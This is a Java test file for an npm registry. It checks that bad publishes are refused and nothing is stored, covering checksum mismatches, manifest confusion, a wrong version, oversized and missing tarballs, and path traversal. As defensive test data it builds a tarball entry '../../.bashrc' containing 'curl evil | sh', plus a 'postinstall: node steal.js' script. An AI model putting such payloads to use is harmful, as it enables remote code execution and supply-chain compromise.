package dev.portcullis.registry.npm;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.portcullis.identity.Permission;
import dev.portcullis.identity.Role;
import dev.portcullis.testing.NpmPackages;
import dev.portcullis.testing.RawHttp;
import dev.portcullis.testing.TestServer;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Bad npm publishes are refused in npm's shape ({@code {"error": …}}), with an {@code
 * UploadRejected} event, and nothing is stored: wrong integrity or shasum, a document naming another
 * package, a manifest that says other dependencies or install scripts than the tarball (manifest
 * confusion), a tarball naming another version, a path escaping the package, bytes that are not a
 * gzipped tar, no tarball at all, an attachment past the size limit.
 */
class NpmRejectionTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final long MAX_FILE_BYTES = 1L << 20;

    @TempDir
    Path dir;

    private record Case(String expected, byte[] body) {}

    private static byte[] edited(byte[] body, UnaryOperator<ObjectNode> edit) throws Exception {
        return JSON.writeValueAsBytes(edit.apply((ObjectNode) JSON.readTree(body)));
    }

    private static byte[] withTarball(byte[] tarball) {
        return NpmPackages.publishBody(NpmPackages.manifest("victim", "1.0.0"), tarball, "latest");
    }

    private static byte[] traversal() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(out))) {
            for (Map.Entry<String, byte[]> e : Map.of(
                            "package/package.json", JSON.writeValueAsBytes(NpmPackages.manifest("victim", "1.0.0")),
                            "package/../../.bashrc", "curl evil | sh\n".getBytes(StandardCharsets.UTF_8))
                    .entrySet()) {
                TarArchiveEntry entry = new TarArchiveEntry(e.getKey(), true);
                entry.setSize(e.getValue().length);
                tar.putArchiveEntry(entry);
                tar.write(e.getValue());
                tar.closeArchiveEntry();
            }
        }
        return out.toByteArray();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("dev.portcullis.testing.TestDatabases#both")
    void badPublishesAreRefusedAndNothingIsStored(String database) throws Exception {
        try (TestServer server = TestServer.start(database, dir.resolve("data"), MAX_FILE_BYTES)) {
            String token = server.token("ci", Role.MAINTAINER, "npm:victim", Permission.UPLOAD);
            byte[] good = withTarball(NpmPackages.tarball("victim", "1.0.0", "'ok'"));
            Map<String, Object> confused = new LinkedHashMap<>(NpmPackages.manifest("victim", "1.0.0"));
            Map<String, Object> scripts = new LinkedHashMap<>(NpmPackages.manifest("victim", "1.0.0"));
            scripts.put("scripts", Map.of("postinstall", "node steal.js"));
            byte[] huge = new byte[(int) MAX_FILE_BYTES + 10];
            List<Case> cases = List.of(
                    new Case("dist.integrity does not match", edited(good, b -> {
                        ((ObjectNode) b.path("versions").path("1.0.0").path("dist")).put("integrity", "sha512-AAAA");
                        return b;
                    })),
                    new Case("dist.shasum does not match", edited(good, b -> {
                        ((ObjectNode) b.path("versions").path("1.0.0").path("dist")).put("shasum", "0".repeat(40));
                        return b;
                    })),
                    new Case("the document names 'other'", edited(good, b -> b.put("name", "other"))),
                    new Case(
                            "(manifest confusion)",
                            NpmPackages.publishBody(
                                    withDependency(confused),
                                    NpmPackages.tarball("victim", "1.0.0", "'ok'"),
                                    "latest")),
                    new Case(
                            "postinstall script than the tarball",
                            NpmPackages.publishBody(scripts, NpmPackages.tarball("victim", "1.0.0", "'ok'"), "latest")),
                    new Case(
                            "the tarball's package.json names victim@9.9.9",
                            withTarball(NpmPackages.tarball("victim", "9.9.9", "'x'"))),
                    new Case(
                            "The tarball is unsafe or malformed: an entry's path climbs out of the archive",
                            withTarball(traversal())),
                    new Case(
                            "The tarball is unsafe or malformed",
                            withTarball("not gzip at all".getBytes(StandardCharsets.UTF_8))),
                    new Case("no tarball", edited(good, b -> {
                        b.remove("_attachments");
                        return b;
                    })),
                    new Case("larger than this server's limit", edited(good, b -> {
                        ((ObjectNode) b.path("_attachments").path("victim-1.0.0.tgz"))
                                .put("data", Base64.getEncoder().encodeToString(huge));
                        return b;
                    })),
                    new Case(
                            "not a valid npm document",
                            "{\"name\": \"victim\", \"versions\": ".getBytes(StandardCharsets.UTF_8)));
            TestServer.Snapshot before = server.snapshot();
            long rejected = server.events("UploadRejected");
            for (Case c : cases) {
                RawHttp.Response response = RawHttp.send(
                        server.url(),
                        "PUT",
                        "/npm/victim",
                        Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"),
                        c.body());
                assertThat(response.status())
                        .as(c.expected() + ": " + response.body())
                        .isBetween(400, 413);
                assertThat(JSON.readTree(response.bytes()).path("error").asText())
                        .as(c.expected())
                        .contains(c.expected());
            }
            assertThat(server.snapshot()).isEqualTo(before);
            assertThat(server.events("UploadRejected") - rejected).isGreaterThanOrEqualTo(cases.size() - 1);

            RawHttp.Response anonymous =
                    RawHttp.send(server.url(), "PUT", "/npm/victim", Map.of("Content-Type", "application/json"), good);
            assertThat(anonymous.status()).isEqualTo(401);
            assertThat(server.snapshot()).isEqualTo(before);
        }
    }

    private static Map<String, Object> withDependency(Map<String, Object> manifest) {
        manifest.put("dependencies", Map.of("lodash", "^4.17.21"));
        return manifest;
    }
}
